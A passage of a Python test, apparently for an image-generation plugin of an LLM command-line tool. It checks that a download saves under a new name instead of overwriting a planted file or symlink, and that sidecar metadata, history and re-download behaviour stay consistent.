    assert result.stderr == ""
    sidecar = json.loads((fake.work / "card-2.jpg.json").read_text())
    assert sidecar["file"] == "card-2.jpg"
    assert not outside.exists() and not (fake.work / "card.jpg").exists()
    if planted_as == "a file":
        assert taken.read_text() == "planted"
    else:
        assert taken.is_symlink()
    [row] = history(llm_cli)
    [image] = row["images"]
    assert image["path"] == str(fake.work / "card-2.jpg")
    assert image["status"] == "saved" and image["exists"]
    again = llm_cli("imagen4", "download", row["id"])
    assert again.exit_code == 0, again.output
    assert "Every saved image of" in again.stderr
    assert sorted(p.name for p in fake.work.iterdir()) == [
        "card-2.jpg",
        "card-2.jpg.json",
        "card.jpg.json",
    ]
    assert len(fake.downloads) == 1
    [made] = json.loads(llm_cli("imagen4", "inspect", "card-2.jpg", "--json").stdout)
    assert made["source"] == "sidecar" and made["claims"]["turn_id"] == row["id"]
